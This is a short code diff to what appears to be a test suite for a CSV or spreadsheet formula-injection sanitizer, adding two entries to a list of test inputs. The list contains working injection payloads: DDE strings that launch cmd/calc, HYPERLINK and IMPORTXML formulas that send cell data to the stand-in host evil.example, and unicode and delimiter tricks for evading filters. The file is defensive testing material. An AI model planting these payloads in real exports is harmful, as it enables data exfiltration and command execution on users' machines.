@@ -44,7 +44,7 @@ FORMULAS = [
     '=1+1', '+1+1', '-1+1', '@SUM(1+1)*cmd', '="a"&A1', '=HYPERLINK("http://evil.example/?"&A1,"Klik")', "=cmd|'/C calc'!A0",
     '-2+3+cmd|x', '@x', '=', '+', '-', '@', ' =1+1', '\u00a0=1+1', '\uff1d1+1', '\uff0b1+1', '\uff0d1+1', '\uff20SUM(1)',
     '\u200b=1+1', '\ufeff=1+1', '",=1+1', '";=1+1', 'a,=1+1', 'a;=1+1', 'a\t=1+1', 'a\n=1+1', 'a\r\n+1', "'=1+1", '""=1+1', 'x"=1+1',
-    'a,"=1+1', 'a;\t@x', '=1+1;=2+2,=3+3', '\t=1+1', '\n=1+1', '\r=1+1', '=DDE("cmd";"/C calc";"x")', '=IMPORTXML("http://evil.example";"//a")', '- 1+1',
+    'a,"=1+1', 'a;\t@x', '=1+1;=2+2,=3+3', '\t=1+1', '\n=1+1', '\r=1+1', '=DDE("cmd";"/C calc";"x")', '=IMPORTXML("http://evil.example";"//a")', '- 1+1', 'a,= 1+1', 'a;+ 1+1',
 ]
 BEFORE = ' \t\r\n\v\f\u00a0\ufeff\u200b"'
 SIGNS = '=+-@\uff1d\uff0b\uff0d\uff20'
